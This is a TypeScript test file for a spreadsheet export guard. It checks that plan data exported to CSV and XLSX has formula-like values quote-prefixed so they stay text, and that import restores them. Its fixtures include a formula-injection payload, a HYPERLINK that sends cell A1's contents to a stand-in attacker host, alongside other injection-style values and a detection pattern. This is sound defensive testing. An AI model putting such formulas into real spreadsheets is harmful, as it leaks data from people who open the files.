import { parse as parseCsv } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { readZip } from '../../../../test/helpers/zip.ts'
import { guardFormula } from '../../../shared/spreadsheet/formula-guard.ts'
import { unguardFormula } from '../import/table.ts'
import type { PlanTree } from '../plan-tree.ts'
import { exportPlanCsv } from './csv.ts'
import { content, deliverable, importExported } from './test-support.ts'
import { exportPlanXlsx } from './xlsx.ts'

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")'
const DANGEROUS = /^[=+\-@\t\r]/

const tree: PlanTree = {
  title: HYPERLINK,
  leadership: [{ name: '=Leader', initials: 'EL', organisation: '+Org', role: '-Role' }],
  strategicAims: ['@Aim'],
  themes: [
    {
      title: '=DANGER',
      subtitle: 'Subtitle',
      notes: ['* a footnote'],
      actions: [
        {
          number: '1',
          locallyAdded: false,
          text: '+1',
          deliverables: [
            deliverable({
              outcome: '-2',
              leads: ['-Dash Lead', 'Plain Lead'],
              leadOrganisations: ['@Org'],
              supportingOrganisations: '=1+1',
              progress: "'=already quoted",
              comment: '@SUM(A1)',
              documentReferences: "''+quoted twice",
            }),
          ],
        },
      ],
    },
  ],
}

/** Addresses of the cells whose style is Excel's quote prefix, read from the file itself. */
function quotePrefixedCells(file: Buffer): Set<string> {
  const parts = readZip(file)
  const xfs =
    parts
      .get('xl/styles.xml')
      ?.toString()
      .match(/<cellXfs[^>]*>(.*?)<\/cellXfs>/)?.[1] ?? ''
  const quotedStyles = new Set(
    [...xfs.matchAll(/<xf [^>]*>/g)].flatMap((m, i) => (m[0].includes('quotePrefix="1"') ? [String(i)] : [])),
  )
  const sheet = parts.get('xl/worksheets/sheet1.xml')?.toString() ?? ''
  return new Set(
    [...sheet.matchAll(/<c r="([A-Z]+\d+)" s="(\d+)"/g)].flatMap((m) =>
      quotedStyles.has(m[2] as string) ? [m[1] as string] : [],
    ),
  )
}

async function xlsxCells(buffer: Buffer): Promise<ExcelJS.Cell[]> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer)
  const cells: ExcelJS.Cell[] = []
  workbook.worksheets[0]?.eachRow((row) => row.eachCell((cell) => cells.push(cell)))
  return cells
}

describe('formula guard', () => {
  it('is undone exactly by the importer, even for text that already starts with quotes', () => {
    for (const text of [
      '=x',
      '+1',
      '-2',
      '@a',
      '\tx',
      '\rx',
      "'=x",
      "''=x",
      "'x",
      "'",
      '',
      'plain',
      '- ',
      '> point',
    ]) {
      expect(unguardFormula(guardFormula(text))).toBe(text)
    }
    expect(guardFormula('> point')).toBe('> point')
    expect(guardFormula("'plain")).toBe("'plain")
  })

  it('leaves no CSV cell starting a formula, and quotes the dangerous ones', () => {
    const csv = exportPlanCsv(tree)
    const cells = (parseCsv(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat()
    expect(cells.filter((c) => DANGEROUS.test(c))).toEqual([])
    for (const guarded of [
      `'${HYPERLINK}`,
      "'+1",
      "'-2",
      "'@SUM(A1)",
      "'=Leader (EL)",
      "'+Org",
      "'-Role",
      "'@Aim",
      "'=1+1",
    ]) {
      expect(cells).toContain(guarded)
    }
    expect(cells).toContain("'=DANGER Subtitle")
    expect(cells).toContain("''=already quoted")
    expect(cells).toContain("'''+quoted twice")
    expect(cells).toContain("'-Dash Lead/Plain Lead")
  })

  it('writes xlsx text as typed under the quote-prefix style: never a formula, no visible quote', async () => {
    const file = await exportPlanXlsx(tree)
    const cells = await xlsxCells(file)
    const quoted = quotePrefixedCells(file)
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([])
    // Every cell a spreadsheet would run as a formula carries the style that keeps it text.
    expect(cells.filter((c) => DANGEROUS.test(c.text) && !quoted.has(c.address)).map((c) => c.text)).toEqual(
      [],
    )
    for (const typed of [
      HYPERLINK,
      '+1',
      '-2',
      '@SUM(A1)',
      '=Leader (EL)',
      '@Aim',
      '=DANGER Subtitle',
      '=1+1',
      '-Dash Lead/Plain Lead',
    ]) {
      const cell = cells.find((c) => c.text === typed)
      expect(cell, typed).toBeDefined()
      expect(quoted.has(cell?.address ?? ''), typed).toBe(true)
    }
    // Only text that itself began with quotes keeps the guard's extra one, so import gives it back.
    expect(cells.map((c) => c.text).filter((t) => t.startsWith("'"))).toEqual([
      "''=already quoted",
      "'''+quoted twice",
    ])
    expect(
      quoted.has(
        cells.find((c) => c.text === 'Plain Lead' || c.text === 'Subtitle' || c.text === '1')?.address ?? '',
      ),
    ).toBe(false)
  })

  it('gives the original text back on import, from xlsx and CSV', async () => {
    const fromXlsx = await importExported(await exportPlanXlsx(tree), 'guarded.xlsx')
    const fromCsv = await importExported(exportPlanCsv(tree), 'guarded.csv')
    expect(content(fromXlsx)).toEqual(content(tree))
    expect(content(fromCsv)).toEqual(content(tree))
  })
})
